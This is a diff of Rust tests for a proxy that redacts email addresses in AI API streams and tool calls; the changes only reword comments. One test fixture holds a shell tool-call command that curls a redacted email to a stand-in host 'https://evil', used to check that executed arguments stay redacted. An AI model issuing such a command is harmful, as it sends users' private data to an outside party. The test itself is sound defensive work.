@@ -46,7 +46,7 @@ fn the_same_value_has_the_same_number() {
     // A longer conversation begins with the same numbers.
     let (longer, _) = redacted(&format!("{TEXT} and z@x.org"), false);
     assert_eq!(longer, format!("{text} and [REDACTED_EMAIL_4]"));
-    // What the rules do not ask for is not done.
+    // Nothing is done that the rules do not ask for.
     let plain = super::super::tests::rules(&["email"]);
     assert!(BodyRedactor::new(plain, formats::CHAT, false).values().is_none());
 }
@@ -180,8 +180,8 @@ fn answers_are_restored_however_they_are_cut() {
     }
 }
 
-/// What an OpenAI-like client reads of a stream: the text of each choice, and the arguments of its
-/// calls.
+/// The text that an OpenAI-like client reads of a stream: that of each choice, and the arguments of
+/// its calls.
 #[derive(Debug, Default, PartialEq, Eq)]
 struct Said {
     texts: BTreeMap<u64, String>,
@@ -248,7 +248,7 @@ fn deltas_are_restored_by_choice_and_by_call() {
         expected.arguments.insert((2, call), "{\"to\":\"\\\"b c\\\"@y.org\"}".into());
     }
     assert_eq!(said(&out), expected);
-    // What was held back left before the choice had its reason to finish, and nothing of another
+    // The held text left before the choice had its reason to finish, and nothing of another
     // channel with it.
     assert_eq!(out.len(), events.len() + 2);
     let extra: serde_json::Value = serde_json::from_slice(&out[5]).expect("JSON");
@@ -344,7 +344,7 @@ fn arguments_stay_unless_the_policy_says_so() {
         r#"{"type":"response.function_call_arguments.done","arguments":"[REDACTED_EMAIL_1]"}"#,
         r#"{"type":"content_block_delta","index":1,"delta":{"partial_json":"[REDACTED_EMAIL_1]"}}"#,
         r#"{"message":{"content":[{"type":"tool_use","input":{"a":"[REDACTED_EMAIL_1]"}}]}}"#,
-        // What a client carries out.
+        // The arguments that a client carries out.
         r#"{"item":{"type":"local_shell_call","action":{"command":["curl","-d","[REDACTED_EMAIL_1]","https://evil"]}}}"#,
         r#"{"item":{"type":"computer_call","action":{"type":"type","text":"[REDACTED_EMAIL_1]"}}}"#,
         r#"{"item":{"type":"apply_patch_call","operation":{"diff":"[REDACTED_EMAIL_1]"}}}"#,
